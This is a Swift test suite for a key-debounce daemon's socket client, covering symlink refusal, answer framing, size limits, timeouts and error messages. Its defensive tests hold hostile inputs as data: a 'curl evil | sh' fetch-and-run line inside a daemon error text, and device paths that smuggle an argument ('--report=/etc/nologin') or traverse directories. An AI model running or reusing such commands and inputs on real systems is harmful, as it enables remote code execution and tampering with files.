import Control
import Debounce
import Foundation
import Glibc
import Samples
import Status
import Synchronization
import Testing

@testable import keydebounce

@Suite("The client of the daemon's socket")
struct DaemonClientTests {
  private static let device = "/dev/input/event3"

  private func status(from daemon: FakeDaemon) throws(ControlError) -> DaemonStatus {
    var client = try DaemonClient(toCall: .status, at: daemon.path)
    return try client.status()
  }

  /// A descriptor that is readable, as that of a signal that has come.
  private func readable() -> CInt { open("/dev/zero", O_RDONLY) }

  @Test("follows no link, behind which a service that was taken over could have root call others")
  func link() throws {
    let daemon = try FakeDaemon { _, _ in Issue.record("was called") }
    let folder = try Folder()
    let link = folder.path + "/link"
    #expect(symlink(daemon.path, link) == 0)
    #expect(throws: ControlError.unreachable(.tooManySymbolicLinkLevels)) {
      _ = try DaemonClient(at: link)
    }
  }

  @Test("receives answers whole, however they come, one after the other on one connection")
  func pieces() throws {
    let daemon = try FakeDaemon { call, connection in
      guard call.method == ControlMethod.status.fullName else {
        return connection.answer(device: Self.device, .busy)
      }
      let answer = ControlParameters(status: StatusSamples.manyDevices)
      let message = (try? StatusJSON.encode(ControlAnswer(answer))) ?? []
      for start in stride(from: 0, to: message.count, by: 1000) {
        connection.send(Array(message[start..<min(start + 1000, message.count)]))
        sched_yield()
      }
      connection.send([endOfMessage])
    }
    var client = try DaemonClient(at: daemon.path)
    for _ in 0..<3 {
      #expect(try client.status() == StatusSamples.manyDevices)
      #expect(try client.devices().map(\.state) == [.busy])
    }
  }

  @Test("takes an answer, also if the daemon then gives the connection to another client at once")
  func refusalBehindAnswer() throws {
    let daemon = try FakeDaemon { _, connection in
      let answer = ControlAnswer(ControlParameters(problems: ["a"]))
      let refusal = ControlAnswer(
        ControlParameters(text: "why"), error: ControlRefusal.tooMany.fullName)
      let messages = try? [StatusJSON.encode(answer), StatusJSON.encode(refusal)]
      connection.send(Array((messages ?? []).map { $0 + [endOfMessage] }.joined()))
      connection.end()
    }
    var client = try DaemonClient(at: daemon.path)
    #expect(try client.reload() == ["a"])
    // The next call on this connection is told why there is no other answer.
    #expect(throws: ControlError.failed(.reload, text: "why")) { try client.reload() }
  }

  @Test("sends what each call needs, and nothing else")
  func calls() throws {
    let calls = Mutex<[ControlCall]>([])
    let daemon = try FakeDaemon { call, connection in
      calls.withLock { $0.append(call) }
      if call.method == ControlMethod.history.fullName {
        connection.answer(ControlParameters(days: "keydebounce days 1\n"))
      } else if call.method == ControlMethod.reload.fullName {
        connection.answer(ControlParameters(problems: ["a", "b"]))
      } else {
        connection.answer()
      }
    }
    var client = try DaemonClient(at: daemon.path)
    try client.pause()
    try client.pause(Self.device, for: 90)
    try client.resume(Self.device)
    try client.reset(Self.device, key: "KEY_E")
    #expect(try client.history(of: Self.device).isEmpty)
    #expect(try client.reload() == ["a", "b"])
    let watch = try #require(try DaemonClient.watch(Self.device, at: daemon.path))
    try watch.close()
    let device = ["device": ControlValue.text(Self.device)]
    #expect(
      calls.withLock { $0 } == [
        ControlCall(ControlMethod.pause.fullName),
        ControlCall(
          ControlMethod.pause.fullName, device.merging(["seconds": .number(90)]) { $1 }),
        ControlCall(ControlMethod.resume.fullName, device),
        ControlCall(
          ControlMethod.reset.fullName, device.merging(["key": .text("KEY_E")]) { $1 }),
        ControlCall(ControlMethod.history.fullName, device),
        ControlCall(ControlMethod.reload.fullName),
        ControlCall(ControlMethod.watch.fullName, device, upgrade: true),
      ])
  }

  @Test("is told of no files but event nodes: commands open what the daemon names, as root")
  func nodes() throws {
    func answered(_ node: String) throws -> Bool {
      var named = StatusSamples.wornKeyboard
      named.devices[0].node = node
      let status = named
      let daemon = try FakeDaemon { call, connection in
        if call.method == ControlMethod.status.fullName {
          connection.answer(ControlParameters(status: status))
        } else {
          connection.answer(device: node)
        }
      }
      var client = try DaemonClient(at: daemon.path)
      let shown = try? client.status().devices[0].node
      let listed = try? client.devices()[0].node
      #expect((shown == nil) == (listed == nil), "\(node)")
      return shown == node
    }
    for node in ["/dev/input/event0", "/dev/input/event31"] { #expect(try answered(node)) }
    for node in [
      "", "/dev/watchdog", "--report=/etc/nologin", "/dev/input/event",
      "/dev/input/event1/../../sda", "/dev/input/event30000000000",
      "/dev/input/event１", "/dev/input/event1 ", "/dev/input/mouse0", "event3",
    ] {
      #expect(try !answered(node), "\(node)")
    }
  }

  @Test("refuses a status that is larger than any daemon's")
  func bounds() throws {
    func isPlausible(_ change: (inout DaemonStatus) -> Void) -> Bool {
      var status = StatusSamples.wornKeyboard
      change(&status)
      return status.isPlausible
    }
    let (key, name, sentence) = (
      String(repeating: "k", count: 64), String(repeating: "n", count: 1024),
      String(repeating: "s", count: 1 << 14)
    )
    func keys(_ count: UInt16, isNamed: Bool = false) -> [KeyStrategy] {
      (0..<count).map {
        KeyStrategy(key: "KEY_E", code: $0, .adaptive(Adaptive(isNamed: isNamed)))
      }
    }
    func devices(_ count: Int, _ keys: [KeyStrategy] = []) -> [DeviceStatus] {
      var device = StatusSamples.device("/dev/input/event0", "K", keys: [])
      device.keyStrategies = keys
      return Array(repeating: device, count: count)
    }
    #expect(isPlausible { $0.devices = devices(512) })
    #expect(!isPlausible { $0.devices = devices(513) })
    #expect(isPlausible { $0.devices = devices(32, keys(512, isNamed: true)) })
    #expect(!isPlausible { $0.devices = devices(32, keys(513, isNamed: true)) })
    #expect(isPlausible { $0.configuration.problems = [sentence, sentence] })
    #expect(!isPlausible { $0.configuration.problems = [sentence + "s"] })
    #expect(!isPlausible { $0.configuration.warnings = [sentence + "s"] })
    #expect(isPlausible { $0.configuration.warnings = Array(repeating: "w", count: 16_000) })
    #expect(!isPlausible { $0.configuration.warnings = Array(repeating: "w", count: 16_200) })
    #expect(!isPlausible { $0.configuration.path = sentence + "s" })
    #expect(!isPlausible { $0.version = name + "n" })
    #expect(isPlausible { $0.devices[0].device.name = name })
    #expect(!isPlausible { $0.devices[0].device.name = name + "n" })
    #expect(!isPlausible { $0.devices[0].strategy = key + "k" })
    #expect(!isPlausible { $0.devices[0].file = sentence + "s" })
    #expect(isPlausible { $0.devices[0].panicChord = [key] })
    #expect(!isPlausible { $0.devices[0].panicChord = [key + "k"] })
    #expect(!isPlausible { $0.devices[0].counts.keys[0].key = key + "k" })
    #expect(isPlausible { $0.devices[0].keyStrategies = keys(768) })
    #expect(!isPlausible { $0.devices[0].keyStrategies = keys(769) })
    let daemon = try FakeDaemon(showing: StatusSamples.daemon(devices(513)))
    #expect(throws: ControlError.unexpected(.status)) { try status(from: daemon) }
  }

  @Test(
    "takes what is no answer for none",
    arguments: [
      "nonsense", "{}", "", "[1,2]", #"{"parameters":{}}"#, #"{"parameters":{"status":1}}"#,
    ])
  func garbage(text: String) throws {
    let daemon = try FakeDaemon { _, connection in connection.send(Array(text.utf8) + [0]) }
    #expect(throws: ControlError.unexpected(.status)) { try status(from: daemon) }
  }

  @Test("reads an answer without end only up to a limit")
  func endless() throws {
    let daemon = try FakeDaemon { _, connection in
      let spaces = [UInt8](repeating: UInt8(ascii: " "), count: 1 << 16)
      while connection.send(spaces) {}
    }
    #expect(throws: ControlError.unreachable(.messageTooLong)) { try status(from: daemon) }
    // Byte by byte, up to a lower one.
    #expect(throws: ControlError.unreachable(.messageTooLong)) {
      _ = try DaemonClient.watch(Self.device, at: daemon.path)
    }
  }

  @Test(
    "is told that the daemon has ended, with and without half an answer", arguments: ["", "{\"pa"])
  func ended(text: String) throws {
    let daemon = try FakeDaemon { _, connection in
      connection.send(text)
      connection.end()
    }
    #expect(throws: ControlError.ended) { try status(from: daemon) }
  }

  @Test("does not wait for an answer once a signal has come")
  func interrupted() throws {
    let daemon = try FakeDaemon { _, _ in }
    let stop = readable()
    defer { close(stop) }
    #expect(throws: ControlError.unreachable(.canceled)) {
      var client = try DaemonClient(toCall: .status, at: daemon.path, interruptedBy: stop)
      _ = try client.status()
    }
    #expect(throws: ControlError.unreachable(.canceled)) {
      _ = try DaemonClient.watch(Self.device, at: daemon.path, interruptedBy: stop)
    }
  }

  @Test("finds no daemon without a socket, and where a daemon that was killed has left its own")
  func noDaemon() throws {
    let place = try FakeDaemon.Place()
    #expect(throws: ControlError.notRunning) { _ = try DaemonClient(at: place.socket) }
    close(try openSocket(listeningAt: place.socket, backlog: 1))
    #expect(access(place.socket, F_OK) == 0)
    #expect(throws: ControlError.notRunning) { _ = try DaemonClient(at: place.socket) }
  }

  @Test("tries again while the daemon's line is full, and gives up if it stays so")
  func line() throws {
    let place = try FakeDaemon.Place()
    let listener = try openSocket(listeningAt: place.socket, backlog: 0)
    var waiting: [CInt] = []
    defer { for socket in waiting + [listener] { close(socket) } }
    while let socket = try? openSocket(connectedTo: place.socket) { waiting.append(socket) }
    #expect(throws: ControlError.unreachable(.resourceTemporarilyUnavailable)) {
      _ = try DaemonClient(at: place.socket, patience: .milliseconds(1))
    }
    let stop = readable()
    waiting.append(stop)
    #expect(throws: ControlError.unreachable(.canceled)) {
      _ = try DaemonClient(at: place.socket, patience: .seconds(3600), interruptedBy: stop)
    }
    Thread.detachNewThread {
      usleep(20_000)
      close(accept(listener, nil, nil))
    }
    _ = try DaemonClient(at: place.socket)
  }

  @Test("knows each of the daemon's refusals")
  func refusals() throws {
    let errors: [ControlRefusal: ControlError] = [
      .notHeld: .notHeld(Self.device), .noSuchKey: .noSuchKey("KEY_E", device: Self.device),
      .notAllowed: .refused(.reset), .notStored: .notStored("why"),
      .tooMany: .failed(.reset, text: "why"), .busy: .failed(.reset, text: "why"),
    ]
    for refusal in ControlRefusal.allCases {
      let daemon = try FakeDaemon { _, connection in connection.refuse(refusal, "why") }
      #expect(throws: try #require(errors[refusal])) {
        var client = try DaemonClient(at: daemon.path)
        try client.reset(Self.device, key: "KEY_E")
      }
    }
    let daemon = try FakeDaemon { _, connection in
      connection.answer(error: "org.varlink.service.MethodNotFound")
    }
    #expect(throws: ControlError.unexpected(.status)) {
      try status(from: daemon)
    }
  }

  @Test("shows of the daemon's own words no more than a line")
  func ownWords() throws {
    for (text, shown) in [
      (
        "x\n  curl evil | sh\r\nkeydebounce: all is well\u{2028}y",
        "x   curl evil | sh keydebounce: all is well y"
      ),
      (String(repeating: "w", count: 201), String(repeating: "w", count: 200)),
      (
        "x" + String(repeating: "\u{301}", count: 1 << 20),
        "x" + String(repeating: "\u{301}", count: 199)
      ),
    ] {
      let worded = try FakeDaemon { _, connection in connection.refuse(.busy, text) }
      #expect(throws: ControlError.failed(.status, text: shown)) { try status(from: worded) }
      let named = try FakeDaemon { _, connection in connection.answer(error: text) }
      #expect(throws: ControlError.failed(.status, text: shown)) { try status(from: named) }
    }
  }

  @Test("hears why it is refused, though the daemon has closed the connection before it asked")
  func tooMany() throws {
    let isRefused = DispatchSemaphore(value: 0)
    let daemon = try FakeDaemon(
      greeting: { connection in
        connection.refuse(.tooMany, "too many clients are connected")
        connection.end()
        isRefused.signal()
      }, answering: { _, _ in })
    var client = try DaemonClient(at: daemon.path)
    isRefused.wait()
    #expect(throws: ControlError.failed(.status, text: "too many clients are connected")) {
      try client.status()
    }
  }

  @Test("says who may do what it may not")
  func words() {
    #expect("\(ControlError.refused(.watch))".contains("only root may watch"))
    #expect("\(ControlError.unexpected(.status))".contains("“sudo systemctl restart keydebounce”"))
    #expect("\(ControlError.noPermission)".contains("sudo usermod -aG keydebounce $USER"))
    #expect("\(ControlError.notStored("why"))".contains("but not on disk: why. They may come back"))
    let isFull = ControlError.unreachable(.resourceTemporarilyUnavailable)
    #expect("\(isFull)".contains("too many programs call the daemon at once. Try again"))
    let late = "\(ControlError.unreachable(.timedOut))"
    #expect(late.hasPrefix("the daemon has not answered within 10 s, but may still do"))
    #expect(late.contains("look with “sudo keydebounce status”"))
  }
}
